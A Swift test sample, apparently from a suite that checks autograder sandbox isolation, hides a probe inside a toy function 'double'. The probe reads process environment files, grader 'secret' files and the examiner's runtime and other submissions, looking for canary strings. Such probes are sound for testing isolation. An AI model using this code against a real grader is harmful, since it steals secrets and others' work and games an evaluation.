// Row A15: reads the grader's environment, the secret of the seeds, the examiner's executable, and others' work.
// Accepts: contained
import Foundation

func look(_ path: String) {
  guard let data = FileManager.default.contents(atPath: path) else { return }
  let text = String(decoding: data.prefix(32 << 20), as: UTF8.self)
  for found in text.components(separatedBy: "canary-").dropFirst().prefix(3) { print("canary-" + found.prefix(30)) }
  if path.hasSuffix("secret") { print("attack-reached the secret") }
}

func double(_ n: Int) -> Int {
  var paths = ["/proc/\(getppid())/environ", "/proc/self/environ"]
  let home = getpwuid(getuid()).map { String(cString: $0.pointee.pw_dir) } ?? "/"
  for folder in [NSHomeDirectory(), home, ".."] {
    paths += [folder + "/.config/coursemark/secret", folder + "/secret"]
  }
  let maps = (try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8)) ?? ""
  for line in maps.split(separator: "\n") {
    guard let path = line.split(separator: " ").last, path.contains("/runtime/") else { continue }
    let cache = path.components(separatedBy: "/runtime/")[0]
    for root in [cache, (cache as NSString).deletingLastPathComponent] {
      let names = FileManager.default.enumerator(atPath: root)?.compactMap { $0 as? String }.prefix(5000) ?? []
      paths += names.filter { !$0.hasSuffix(".swiftmodule") }.map { root + "/" + $0 }
    }
    break
  }
  for path in paths { look(path) }
  return n + 1
}
